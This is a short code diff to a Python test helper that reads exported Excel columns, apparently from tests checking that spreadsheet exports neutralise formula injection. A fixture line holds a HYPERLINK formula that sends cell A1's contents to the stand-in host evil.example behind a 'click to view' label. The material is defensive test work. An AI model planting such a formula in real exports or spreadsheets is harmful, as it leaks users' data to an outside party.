@@ -10,7 +10,10 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 
 def exported_column(response, column: str) -> list:
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    return pl.read_excel(io.BytesIO(response.content))[column].to_list()
+    frame = pl.read_excel(io.BytesIO(response.content))
+    if column not in frame.columns:  # a list laid out to publish starts under its title row
+        frame = pl.read_excel(io.BytesIO(response.content), read_options={"header_row": 1})
+    return frame[column].to_list()
 
 
 def assert_inert(values: list) -> None:
